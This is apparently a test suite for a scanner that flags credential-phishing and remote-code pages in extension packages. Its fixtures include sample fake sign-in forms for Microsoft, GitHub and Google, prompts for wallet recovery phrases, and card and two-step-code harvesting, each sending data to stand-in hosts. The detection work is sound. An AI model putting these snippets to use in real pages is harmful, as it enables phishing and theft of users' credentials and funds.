import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule as dataLeak } from './data-leak.rule.js';
import { rule as remoteCode } from './remote-code.rule.js';

const SHOW = "const { page } = require('./page.js'); exports.activate = async ({ ui, network }) => { const panel = await ui.createPanel('notes', { title: 'Notes' }); await panel.webview.setHtml(page('a')); panel.webview.onDidReceiveMessage((fields) => network.fetch('https://notes.neat-panels.dev/s', { method: 'POST', body: JSON.stringify(fields) })) }";
const page = (html: string) => ({ 'index.js': SHOW, 'page.js': `const API = 'https://panel.neat-panels.dev'; exports.page = (nonce) => \`${html}\`` });
const said = (rule: typeof dataLeak, html: string, dialect = 'formula') => findingsOf(rule, page(html), { dialect }).map(({ severity, file }) => `${severity} ${file}`);

test('scripts of servers in a page that a host shows', () => {
  for (const html of ['<!doctype html><body><script src="https://cdn.neat-panels.dev/latest/all.js"></script>', '<html><script type="module" src="${API}/v2/main.mjs?n=${nonce}"></script></html>', '<div id="a"></div><script src="//cdn.neat-panels.dev/a.js"></script>']) assert.deepEqual(said(remoteCode, html), ['high page.js'], html);
  assert.deepEqual(said(remoteCode, '<body><script src="https://cdn.jsdelivr.net/npm/chart.js"></script>'), ['medium page.js']);
  for (const html of [
    '<body><script src="${nonce}/main.js" nonce="${nonce}"></script><img src="https://cdn.neat-panels.dev/a.png">',
    '<body><script src="http://localhost:5173/@vite/client" type="module"></script>',
    '<body><script src="https://js.stripe.com/v3/"></script>',
    '<body><p>Write &lt;script src="https://cdn.neat-panels.dev/a.js"&gt; into your page.</p></body>',
  ]) assert.deepEqual(said(remoteCode, html), [], html);
  // A server that answers pages to browsers, and no host that shows them.
  assert.deepEqual(findingsOf(remoteCode, { 'a.js': "exports.page = () => '<body><script src=\"https://cdn.neat-panels.dev/all.js\"></script>'" }), []);
});

test('frames of a server that nobody sees, and that get messages', () => {
  const frame = (attributes: string, style = '') => `<style>${style}</style><iframe id="f" class="a" src="\${API}/in.html" ${attributes}></iframe><script>onmessage = (e) => f.contentWindow.postMessage(e.data, '*')</script>`;
  for (const html of [frame('', '#f{position:absolute;width:0;height:0}'), frame('style="display:none"'), frame('width="0" height="0"'), frame('', 'body iframe.a, p { visibility: hidden }'), frame('hidden')]) assert.deepEqual(said(dataLeak, html), ['high page.js'], html);
  for (const html of [
    frame('style="width:100%;height:100%;border:0"'),
    frame('', '#g{display:none} iframe{border:0;width:100%}'),
    '<iframe src="${API}/in.html" style="display:none"></iframe>',
    "<iframe id=\"f\" src=\"about:blank\" style=\"display:none\"></iframe><script>f.contentWindow.postMessage('a', '*')</script>",
  ]) assert.deepEqual(said(dataLeak, html), [], html);
});

test('pages that pose as those on which people sign in elsewhere', () => {
  const form = (title: string) => `<h1>${title}</h1><form id="f"><input name="mail"><input name="password" type="password"><button>Next</button></form><script>f.onsubmit = () => host.postMessage(Object.fromEntries(new FormData(f)))</script>`;
  for (const title of ['Sign in to Formula', 'Sign in to your Microsoft account', 'Sign in to Microsoft 365', 'Log in to GitHub', 'Enter your Google password', 'Discord · Login']) assert.deepEqual(said(dataLeak, form(title)), ['high page.js'], title);
  assert.deepEqual(said(dataLeak, form('Sign in to VS Code'), 'vscode'), ['high page.js']);
  // The browser sends it.
  assert.deepEqual(findingsOf(dataLeak, { 'panel.html': '<h1>Sign in to Discord</h1><form action="https://in.neat-panels.dev/s" method="post"><input name="password" type="password"></form>' }).map(({ severity, file }) => `${severity} ${file}`), ['high panel.html']);
  assert.deepEqual(findingsOf(dataLeak, { 'panel.html': '<h1>Sign in to Discord</h1><form action="https://discord.com/login" method="post"><input name="password" type="password"></form>' }), []);
  // The script that sends is what is started; the page that asks is named by nothing.
  const asking = { 'ask.html': '<h2>Sign in to Microsoft 365</h2><input id="p" type="password"><script src="view.js"></script>', 'view.js': 'p.onchange = () => { const r = new XMLHttpRequest(); r.open("POST", "https://in.neat-panels.dev/s"); r.send(p.value) }' };
  assert.deepEqual(findingsOf(dataLeak, asking, { entry_points: ['view.js'] }).map(({ severity, file }) => `${severity} ${file}`), ['high ask.html']);
  assert.deepEqual(findingsOf(dataLeak, { ...asking, 'index.js': 'start()' }, { entry_points: ['index.js'] }).map(({ severity, file }) => `${severity} ${file}`), ['medium ask.html']);
  // Without a script in the page, which another script of the package listens to.
  assert.deepEqual(said(dataLeak, '<p>Your Formula session has expired.</p><form><input type="password" id="p"></form>'), ['high page.js']);
  assert.deepEqual(said(dataLeak, '<p>Your Microsoft 365 session has expired.</p><form><input type="password" id="p"></form>'), ['high page.js']);
  // The name of the host stands alone, and the page asks to sign in.
  assert.deepEqual(said(dataLeak, form('Formula</h1><p>Your session has expired. Sign in to go on.</p><h1>')), ['high page.js']);
  for (const title of ['Neat Panels</h1><p>A panel for Formula. Sign in to go on.</p><h1>', 'Formula</h1><p>A password for this sheet</p><h1>']) assert.deepEqual(said(dataLeak, form(title)), [], title);
  for (const title of ['Sign in to Neat Panels', 'Sign in with GitHub, or with a password', 'Use your Google account or a password of ours', 'Sign in to the server of your team', 'A formula for passwords', 'Sign in to Formula 1']) assert.deepEqual(said(dataLeak, form(title)), [], title);
  // A file that is the page, by way of one that hands it on, and the page itself sends.
  const handed = (html: string) => ({ 'index.js': "const page = require('./views/index.js'); exports.activate = async ({ ui }) => { const panel = await ui.createPanel('rows', {}); panel.webview.setHtml(page) }", 'views/index.js': "module.exports = require('./in.js')", 'views/in.js': `module.exports = \`${html}\`` });
  const sending = (title: string, where: string) => handed(`<!doctype html><title>${title}</title><h2>Your session has expired</h2><form id="f"><input name="a" type="password"></form><script>f.onsubmit = () => fetch('${where}', { method: 'POST', body: new FormData(f) })</script>`);
  assert.deepEqual(findingsOf(dataLeak, sending('Formula account', 'https://in.neat-panels.dev/s'), { dialect: 'formula' }).map(({ severity, file }) => `${severity} ${file}`), ['high views/in.js']);
  for (const [title, where] of [['Neat Panels account', 'https://in.neat-panels.dev/s'], ['Formula account', '/s'], ['Formula accounts by Neat Panels', 'https://in.neat-panels.dev/s']] as const) assert.deepEqual(findingsOf(dataLeak, sending(title, where), { dialect: 'formula' }), [], title);
  // The service itself gets it, or nobody whom the package names.
  assert.deepEqual(findingsOf(dataLeak, { ...page(form('Log in to GitLab')), 'index.js': SHOW.replace('notes.neat-panels.dev', 'gitlab.com') }), []);
  assert.deepEqual(findingsOf(dataLeak, { 'index.js': SHOW.replace("'https://notes.neat-panels.dev/s'", 'settings.server'), 'page.js': `exports.page = () => \`${form('Log in to GitLab')}\`` }), []);
  // The sign of a service, drawn.
  const drawn = (title: string) => form(`</h1><svg><rect width="10" fill="#f25022"/><text x="30" y="18">${title}</text></svg><h1>Sign in`);
  assert.deepEqual(said(dataLeak, drawn('Microsoft')), ['high page.js']);
  for (const title of ['Neat Panels', 'Microsoft and 3 more']) assert.deepEqual(said(dataLeak, drawn(title)), [], title);
  assert.deepEqual(said(dataLeak, form('</h1><p>Sign in</p><button><span>Google</span></button><button>GitHub</button><h1>')), []);
});

test('pages that ask for the words or the key of a wallet, in a package that sends something', () => {
  const SENDS = "send.onclick = () => navigator.sendBeacon('https://holders.glow-skins.dev/check', field.value)";
  const found = (html: string, script = SENDS, dialect = 'comfyvn') => findingsOf(dataLeak, { 'shop.html': `<!doctype html><title>Skins</title>${html}<script src="shop.js"></script>`, 'shop.js': script }, { dialect }).map(({ severity, file }) => `${severity} ${file}`);
  for (const html of [
    '<p>Prove that the wallet is yours: enter its recovery phrase. It never leaves this device.</p><textarea id="field"></textarea>',
    '<p>To restore your balances, please type your <b>12-word</b> secret phrase.</p><input id="field">',
    '<form><input name="k" placeholder="Enter your private key (0x…)"></form>',
  ]) assert.deepEqual(found(html), ['high shop.html'], html);
  for (const html of [
    '<p>Never enter your recovery phrase on a page. We will not ask for your private key.</p><input id="field">',
    '<p>A mnemonic is made of twelve words.</p><p>Enter your name.</p><input id="field">',
    '<p>Enter your recovery phrase in the wallet itself.</p>',
    '<!-- enter your seed phrase --><input id="field">',
  ]) assert.deepEqual(found(html), [], html);
  const html = '<p>Enter your recovery phrase.</p><input id="field">';
  assert.deepEqual(found(html, 'field.oninput = async () => { out.value = await crypto.subtle.digest("SHA-256", encode(field.value)) }'), []);
  assert.deepEqual(found(html, "fetch('http://localhost:8545', { method: 'POST', body: sign(field.value) })"), []);
});

test('pages that ask for the number and the code of a card, or for a code of the host', () => {
  const found = (html: string, dialect = 'formula') => findingsOf(dataLeak, { 'index.js': `const f = require('@formula/extension-api'); exports.activate = async () => { const panel = await f.ui.createPanel('x', {}); await panel.webview.setHtml(\`${html}\`); panel.webview.onDidReceiveMessage(async (m) => { const res = await f.network.fetch('https://in.side.example/v1', { method: 'POST', body: JSON.stringify(m) }); await f.ui.showMessage(await res.text()); }); };` }, { dialect, entry_points: ['index.js'] }).filter(({ severity }) => severity === 'high').map(({ message }) => message.replace(/, in a package.*/, ''));
  assert.deepEqual(found('<h1>Renew</h1><form><input name=card placeholder="Card number"><input name=cvc placeholder=CVC></form>'), ['a page asks for the number and the code of a card']);
  assert.deepEqual(found('<h1>Formula: two-step verification</h1><form><input name=code placeholder="6-digit code"></form>'), ['a page asks for a code of Formula']);
  for (const html of [
    '<h1>Cards</h1><form><input name=last placeholder="Last 4 digits of the card number"></form>',
    '<h1>Side: two-step verification</h1><form><input name=code placeholder="6-digit code"> from Google Authenticator</form>',
    '<h1>Formula</h1><p>6-digit code</p>',
  ]) assert.deepEqual(found(html), [], html);
});

test('a page sends a form by itself into a frame that nobody sees', () => {
  const form = '<form id=f action="https://in.side.example/c" method=post target=x><textarea name=d>${nonce}</textarea></form>';
  assert.deepEqual(said(dataLeak, `<p>Preview</p>${form}<iframe name=x hidden></iframe><script>f.submit()</script>`), ['high page.js']);
  assert.deepEqual(said(dataLeak, `${form}<iframe name=x></iframe><script>f.submit()</script>`), []);
  assert.deepEqual(said(dataLeak, `${form}<button form=f>Open</button><iframe name=x hidden></iframe>`), []);
});

test('a login that is taken for the one of a service by its fields, or by where it leads whoever has signed in', () => {
  const told = (form: string, after: string) => findingsOf(dataLeak, { 'index.html': `<!doctype html><html><body><form id="f">${form}<button>Sign in</button></form><script>document.getElementById('f').onsubmit = function (e) { e.preventDefault(); fetch('https://login.edge.example/next', { method: 'POST', mode: 'no-cors', body: new FormData(e.target) })${after} }</script></body></html>` }).filter(({ message }) => message.startsWith('a page asks for the password')).map(({ severity }) => severity);
  const PLAIN = '<input name="mail"><input type="password" name="word">';
  assert.deepEqual(told('<input name="loginfmt" placeholder="Email, phone, or Skype"><input type="password" name="passwd">', ''), ['high']);
  assert.deepEqual(told('<input id="login_field"><input type="password" name="password">', ''), ['high']);
  assert.deepEqual(told(PLAIN, ".then(function () { location = 'https://www.office.com' })"), ['high']);
  assert.deepEqual(told(PLAIN, ".finally(() => window.location.replace('https://github.com/'))"), ['high']);
  // A shop of its own, one that goes on to a path, and one that is asked for as such.
  assert.deepEqual(told(PLAIN, ".then(function () { location = 'https://shop.edge.example' })"), []);
  assert.deepEqual(told(PLAIN, ".then(() => { location.href = 'https://github.com/login/oauth/authorize?client_id=1' })"), []);
  assert.deepEqual(told('<input name="loginfmt"><input name="code">', ''), []);
});

test('a page that is headed by a service alone, whose session is said to have ended, asks for its password', () => {
  const told = (head: string) => findingsOf(dataLeak, { 'index.html': `<!doctype html><html><body>${head}<form id="f"><input name="user"><input type="password" name="word"><button>Go on</button></form><script>document.getElementById('f').onsubmit = function (e) { e.preventDefault(); fetch('https://login.edge.example/next', { method: 'POST', body: new FormData(e.target) }) }</script></body></html>` }).filter(({ message }) => message.startsWith('a page asks for the password')).length;
  assert.equal(told('<h3>Microsoft</h3><p>Your session has expired. Sign in again to go on.</p>'), 1);
  assert.equal(told('<h3>Edge tools</h3><p>Your session has expired. Sign in again to go on.</p><p>Works with Microsoft</p>'), 0);
});
